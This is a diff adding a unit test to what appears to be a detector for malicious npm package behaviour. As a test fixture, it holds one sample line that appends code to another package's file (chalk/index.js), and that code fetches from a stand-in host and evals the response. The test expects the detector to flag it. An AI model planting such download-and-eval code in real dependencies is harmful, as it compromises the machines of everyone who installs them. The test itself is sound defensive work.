@@ -17,6 +17,15 @@ describe('files that are written', () => {
     );
   });
 
+  it("are code where that is put into another package's file", () => {
+    const patch = (added: string): readonly string[] =>
+      flowsOf(`const file = path.join(__dirname, '..', 'chalk', 'index.js'); const old = fs.readFileSync(file, 'utf8');
+        fs.writeFileSync(file, old + ${added});`);
+    const code = `;require('https').get('https://load.invalid', (r) => r.on('data', (d) => eval(String(d))));`;
+    assert.deepEqual(patch(JSON.stringify(code)), ['downloaded>evaluated']);
+    assert.deepEqual(patch(`'\\nmodule.exports.level = 1;'`), []);
+  });
+
   it('tell npm or a build server what to do', () => {
     const rc = (text: string): readonly string[] =>
       behavioursOf(`fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '${text}');`);
